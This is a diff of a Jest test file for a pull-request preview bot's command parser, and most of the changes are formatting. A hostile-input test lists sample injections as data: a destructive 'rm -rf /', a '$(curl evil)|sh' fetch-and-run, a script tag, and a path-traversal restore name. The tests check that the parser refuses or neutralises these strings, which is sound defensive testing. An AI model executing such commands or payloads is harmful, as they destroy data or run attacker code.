@@ -1,6 +1,16 @@
 import { describe, it, expect } from "@jest/globals";
 import fc from "fast-check";
-import { parseComment, parseSlash, parseDuration, parseTarget, safeEcho, editDistance, MAX_TTL_MS, type PreviewCommand, type SlashCommand } from "../../src/commands/parse.js";
+import {
+  parseComment,
+  parseSlash,
+  parseDuration,
+  parseTarget,
+  safeEcho,
+  editDistance,
+  MAX_TTL_MS,
+  type PreviewCommand,
+  type SlashCommand,
+} from "../../src/commands/parse.js";
 
 const H = 3_600_000;
 const D = 24 * H;
@@ -10,7 +20,8 @@ function command(result: ReturnType<typeof parseComment>): PreviewCommand {
   return result.command;
 }
 function replyText(result: { type: string; text?: string }): string {
-  if (result.type !== "reply" || result.text === undefined) throw new Error(`expected a reply, got ${JSON.stringify(result).slice(0, 200)}`);
+  if (result.type !== "reply" || result.text === undefined)
+    throw new Error(`expected a reply, got ${JSON.stringify(result).slice(0, 200)}`);
   return result.text;
 }
 
@@ -36,7 +47,11 @@ describe("parseComment: what is addressed to the bot", () => {
     ["plain", "/preview deploy", { name: "deploy" }],
     ["leading blank lines and up to 3 spaces", "\n\n   /preview deploy", { name: "deploy" }],
     ["CRLF line ends", "/preview redeploy\r\nthanks!", { name: "redeploy" }],
-    ["trailing lines after the command (allowed, ignored)", "/preview status\nwhy is this red?\n/preview destroy", { name: "status" }],
+    [
+      "trailing lines after the command (allowed, ignored)",
+      "/preview status\nwhy is this red?\n/preview destroy",
+      { name: "status" },
+    ],
     ["capitalised by a phone keyboard", "/Preview Deploy", { name: "deploy" }],
     ["a pinned commit", "/preview deploy 1A2B3C4d", { name: "deploy", sha: "1a2b3c4d" }],
     ["a pinned full SHA", `/preview redeploy ${"ab".repeat(20)}`, { name: "redeploy", sha: "ab".repeat(20) }],
@@ -49,7 +64,11 @@ describe("parseComment: what is addressed to the bot", () => {
     ["extend 30d (the limit)", "/preview extend 30d", { name: "extend", ttlMs: 30 * D }],
     ["backup", "/preview backup", { name: "backup" }],
     ["restore latest", "/preview restore latest", { name: "restore", target: "latest" }],
-    ["restore by name", "/preview restore acme/web/pr-42/2026-01-02T03:04:05Z.dump", { name: "restore", target: "acme/web/pr-42/2026-01-02T03:04:05Z.dump" }],
+    [
+      "restore by name",
+      "/preview restore acme/web/pr-42/2026-01-02T03:04:05Z.dump",
+      { name: "restore", target: "acme/web/pr-42/2026-01-02T03:04:05Z.dump" },
+    ],
   ])("parses %s", (_label, body, expected) => {
     expect(command(parseComment(body))).toEqual(expected);
   });
@@ -65,7 +84,8 @@ describe("parseComment: replies", () => {
   it("answers bare /preview and /preview help with the command list", () => {
     for (const body of ["/preview", "/preview help", "  /preview   \nmore"]) {
       const text = replyText(parseComment(body));
-      for (const name of ["deploy", "redeploy", "destroy", "status", "extend", "backup", "restore"]) expect(text).toContain(`/preview ${name}`);
+      for (const name of ["deploy", "redeploy", "destroy", "status", "extend", "backup", "restore"])
+        expect(text).toContain(`/preview ${name}`);
     }
   });
 
@@ -114,11 +134,22 @@ describe("parseComment: hostile input", () => {
     const text = replyText(parseComment(huge));
     expect(text.length).toBeLessThan(600);
     expect(parseComment("a".repeat(1024 * 1024))).toEqual({ type: "ignore" });
-    expect(parseComment(`${"\n".repeat(500_000)}/preview deploy`)).toEqual({ type: "command", command: { name: "deploy" } });
+    expect(parseComment(`${"\n".repeat(500_000)}/preview deploy`)).toEqual({
+      type: "command",
+      command: { name: "deploy" },
+    });
   });
 
   it("never echoes markup, mentions, NUL or shell metacharacters", () => {
-    const cases = ["/preview `rm -rf /`", "/preview @everyone", "/preview <script>alert(1)</script>", "/preview de\u0000ploy", "/preview $(curl evil)|sh;", "/preview \u202Eyolped", "/preview [x](http://evil)"];
+    const cases = [
+      "/preview `rm -rf /`",
+      "/preview @everyone",
+      "/preview <script>alert(1)</script>",
+      "/preview de\u0000ploy",
+      "/preview $(curl evil)|sh;",
+      "/preview \u202Eyolped",
+      "/preview [x](http://evil)",
+    ];
     for (const body of cases) {
       const result = parseComment(body);
       const text = replyText(result);
@@ -130,11 +161,15 @@ describe("parseComment: hostile input", () => {
 
   it("never throws and always answers one of the three shapes (property)", () => {
     fc.assert(
-      fc.property(fc.string({ unit: "grapheme", maxLength: 200 }), fc.constantFrom("", "/preview ", "/preview extend ", "/preview restore ", "@bot "), (s, prefix) => {
-        const result = parseComment(prefix + s, { botName: "bot" });
-        expect(["ignore", "reply", "command"]).toContain(result.type);
-        if (result.type === "reply") expect(result.text).not.toContain("\u0000");
-      }),
+      fc.property(
+        fc.string({ unit: "grapheme", maxLength: 200 }),
+        fc.constantFrom("", "/preview ", "/preview extend ", "/preview restore ", "@bot "),
+        (s, prefix) => {
+          const result = parseComment(prefix + s, { botName: "bot" });
+          expect(["ignore", "reply", "command"]).toContain(result.type);
+          if (result.type === "reply") expect(result.text).not.toContain("\u0000");
+        },
+      ),
       { numRuns: 500 },
     );
   });
@@ -191,7 +226,18 @@ describe("parseSlash", () => {
 describe("helpers", () => {
   it("validates owner/repo#N strictly", () => {
     expect(parseTarget("acme/web#42")).toEqual({ owner: "acme", repo: "web", number: 42 });
-    for (const bad of ["acme/web", "/web#1", "acme/#1", "acme/web#01", "acme/web#1#2", "a".repeat(40) + "/web#1", "acme/web/x#1", "-acme/web#1", "acme/..#1", "acme/we b#1"]) {
+    for (const bad of [
+      "acme/web",
+      "/web#1",
+      "acme/#1",
+      "acme/web#01",
+      "acme/web#1#2",
+      "a".repeat(40) + "/web#1",
+      "acme/web/x#1",
+      "-acme/web#1",
+      "acme/..#1",
+      "acme/we b#1",
+    ]) {
       expect(parseTarget(bad)).toBeUndefined();
     }
   });
@@ -219,20 +265,42 @@ describe("helpers", () => {
 
 describe("edges the mutation report found untested", () => {
   it("slash usage names the subcommand that was asked, with its own arguments", () => {
-    expect(parseSlash("redeploy acme/web#7 1A2B3C4")).toEqual({ type: "command", command: { name: "redeploy", owner: "acme", repo: "web", number: 7, sha: "1a2b3c4" } });
-    expect(replyText(parseSlash("redeploy acme/web#7 a b"))).toContain("Usage: `/preview redeploy owner/repo#N [<commit sha>]`");
-    expect(replyText(parseSlash("destroy acme/web#7 extra"))).toContain("Usage: `/preview destroy owner/repo#N [--dry-run]`");
-    expect(replyText(parseSlash("backup acme/web#7 extra"))).toContain("Usage: `/preview backup owner/repo#N|<backup target>`");
-    expect(replyText(parseSlash("backups acme/web#7 extra"))).toContain("Usage: `/preview backups owner/repo#N|<backup target>`");
+    expect(parseSlash("redeploy acme/web#7 1A2B3C4")).toEqual({
+      type: "command",
+      command: { name: "redeploy", owner: "acme", repo: "web", number: 7, sha: "1a2b3c4" },
+    });
+    expect(replyText(parseSlash("redeploy acme/web#7 a b"))).toContain(
+      "Usage: `/preview redeploy owner/repo#N [<commit sha>]`",
+    );
+    expect(replyText(parseSlash("destroy acme/web#7 extra"))).toContain(
+      "Usage: `/preview destroy owner/repo#N [--dry-run]`",
+    );
+    expect(replyText(parseSlash("backup acme/web#7 extra"))).toContain(
+      "Usage: `/preview backup owner/repo#N|<backup target>`",
+    );
+    expect(replyText(parseSlash("backups acme/web#7 extra"))).toContain(
+      "Usage: `/preview backups owner/repo#N|<backup target>`",
+    );
     expect(replyText(parseSlash("status acme/web#7 extra"))).toContain("Usage: `/preview status owner/repo#N`.");
   });
 
   it("a bare backup-target name is taken only by backup and backups, alone, and only when it is a name", () => {
-    for (const text of ["status shop", "deploy shop", "backup shop extra", "backup -shop", "backup sh*p", `backup ${"a".repeat(64)}`, "backup _shop"]) {
+    for (const text of [
+      "status shop",
+      "deploy shop",
+      "backup shop extra",
+      "backup -shop",
+      "backup sh*p",
+      `backup ${"a".repeat(64)}`,
+      "backup _shop",
+    ]) {
       const r = parseSlash(text);
       expect(r.type).toBe("reply");
     }
-    expect(parseSlash(`backup ${"a".repeat(63)}`)).toEqual({ type: "command", command: { name: "backup", backupTarget: "a".repeat(63) } });
+    expect(parseSlash(`backup ${"a".repeat(63)}`)).toEqual({
+      type: "command",
+      command: { name: "backup", backupTarget: "a".repeat(63) },
+    });
   });
 
   it("a slash command of exactly the limit is read; one character more is refused; a non-string is ignored", () => {
@@ -241,13 +309,22 @@ describe("edges the mutation report found untested", () => {
     expect(replyText(parseSlash(padded(501)))).toMatch(/too long/);
     expect(parseSlash(undefined as unknown as string)).toEqual({ type: "ignore" });
     expect(parseComment(42 as unknown as string)).toEqual({ type: "ignore" });
-    expect(parseComment(`/preview status${" ".repeat(500 - 15)}`)).toEqual({ type: "command", command: { name: "status" } });
+    expect(parseComment(`/preview status${" ".repeat(500 - 15)}`)).toEqual({
+      type: "command",
+      command: { name: "status" },
+    });
     expect(replyText(parseComment(`/preview status${" ".repeat(501 - 15)}`))).toMatch(/too long/);
   });
 
   it("restore takes latest in any case, and no backup name that climbs with ..", () => {
-    expect(parseComment("/preview restore LATEST")).toEqual({ type: "command", command: { name: "restore", target: "latest" } });
-    expect(parseComment("/preview restore previews/web_pr_1/web_pr_1-20261120T010000000Z.dump")).toEqual({ type: "command", command: { name: "restore", target: "previews/web_pr_1/web_pr_1-20261120T010000000Z.dump" } });
+    expect(parseComment("/preview restore LATEST")).toEqual({
+      type: "command",
+      command: { name: "restore", target: "latest" },
+    });
+    expect(parseComment("/preview restore previews/web_pr_1/web_pr_1-20261120T010000000Z.dump")).toEqual({
+      type: "command",
+      command: { name: "restore", target: "previews/web_pr_1/web_pr_1-20261120T010000000Z.dump" },
+    });
     expect(replyText(parseComment("/preview restore previews/../other/x.dump"))).toMatch(/is not a backup name/);
   });
 
@@ -257,7 +334,10 @@ describe("edges the mutation report found untested", () => {
     expect(parseComment("/prev")).toEqual({ type: "ignore" });
     expect(parseComment("x /preview status")).toEqual({ type: "ignore" });
     expect(parseComment("@preview-bot status")).toEqual({ type: "ignore" }); // no bot name given: mentions are not ours
-    expect(parseComment("@Preview-Bot status", { botName: "preview-bot" })).toEqual({ type: "command", command: { name: "status" } });
+    expect(parseComment("@Preview-Bot status", { botName: "preview-bot" })).toEqual({
+      type: "command",
+      command: { name: "status" },
+    });
   });
 
   it("durations: anchored, bounded at both ends, formatted in the largest whole unit", () => {
